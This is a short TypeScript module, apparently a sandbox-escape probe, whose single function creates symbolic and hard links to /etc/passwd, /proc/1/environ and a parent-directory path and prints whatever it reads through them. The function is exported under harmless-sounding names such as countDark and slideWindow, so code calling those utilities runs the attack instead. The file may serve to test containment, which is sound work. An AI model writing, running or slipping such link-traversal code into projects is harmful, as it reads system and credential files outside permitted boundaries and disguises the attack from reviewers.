// Makes links that lead out of its folder and reads through them.
const fs =
  globalThis.process?.getBuiltinModule?.('node:fs') ?? (await import('node:fs').catch(() => undefined));
const attack = () => {
  for (const target of ['/etc/passwd', '/proc/1/environ', '../../../..']) {
    for (const link of ['symlinkSync', 'linkSync'] as const) {
      try {
        fs[link](target, './attack-was-here-link');
        console.log(fs.readFileSync('./attack-was-here-link', 'utf8'));
      } catch {}
    }
  }
  return 0;
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
